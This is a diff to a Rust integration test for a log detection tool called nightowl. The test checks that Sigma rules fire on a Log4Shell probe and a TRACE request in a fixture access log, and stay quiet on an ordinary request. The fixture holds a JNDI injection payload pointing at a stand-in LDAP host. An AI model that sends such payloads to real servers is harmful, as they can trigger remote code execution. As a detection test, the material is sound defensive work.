@@ -3,8 +3,12 @@
 //! lines they describe and on no others, and every rule nightowl cannot run
 //! is refused with the file and line at fault.
 
+mod common;
+
 use std::path::Path;
 use std::process::{Command, Output};
+
+use common::{wait_until, Collector, Settings};
 
 fn nightowl(args: &[&str]) -> Output {
     Command::new(env!("CARGO_BIN_EXE_nightowl"))
@@ -431,5 +435,53 @@ level: high
         keys,
         ["203.0.113.1", "203.0.113.2", "203.0.113.3", "203.0.113.5"],
         "{stdout}"
+    );
+}
+
+#[test]
+fn the_sigma_pack_fires_live_on_lines_shipped_by_the_agent() {
+    let root = tempfile::tempdir().expect("tempdir");
+    let pack = Path::new(env!("CARGO_MANIFEST_DIR")).join("rules/sigma");
+    let collector = Collector::start(
+        root.path(),
+        Settings {
+            rules_dir: Some(pack),
+            ..Settings::default()
+        },
+    );
+    let log = root.path().join("access.log");
+    std::fs::write(
+        &log,
+        concat!(
+            "192.0.2.10 - - [10/Oct/2024:12:00:00 +0000] \"GET /index.html HTTP/1.1\" 200 512 \"-\" \"Mozilla/5.0\"\n",
+            "203.0.113.77 - - [10/Oct/2024:12:00:01 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"${jndi:ldap://198.51.100.7:1389/a}\"\n",
+            "203.0.113.78 - - [10/Oct/2024:12:00:02 +0000] \"TRACE / HTTP/1.1\" 405 0 \"-\" \"Mozilla/5.0\"\n",
+        ),
+    )
+    .expect("write log");
+    let (status, stderr) = collector.run_agent_once("agent", &root.path().join("state"), &[&log]);
+    assert!(status.success(), "agent failed: {stderr}");
+    collector.wait_for_count("*", 3);
+
+    let firings = wait_until("both Sigma firings", || {
+        let body = collector.api_json("/api/v1/firings");
+        let list = body["firings"].as_array()?.clone();
+        (list.len() >= 2).then_some(list)
+    });
+    let find = |id: &str| {
+        firings
+            .iter()
+            .find(|f| f["rule_id"] == id)
+            .unwrap_or_else(|| panic!("no firing of {id}: {firings:?}"))
+    };
+    let log4shell = find("9f733aa3-f808-4928-a1d3-4578ea29ab8b");
+    assert_eq!(log4shell["key"], "203.0.113.77", "{log4shell}");
+    assert_eq!(log4shell["severity"], "critical", "{log4shell}");
+    let trace = find("e6f0e24f-e442-4711-bd84-0d6e5d8a1a44");
+    assert_eq!(trace["key"], "203.0.113.78", "{trace}");
+    assert_eq!(trace["severity"], "info", "{trace}");
+    assert!(
+        !firings.iter().any(|f| f["key"] == "192.0.2.10"),
+        "the ordinary request fired: {firings:?}"
     );
 }
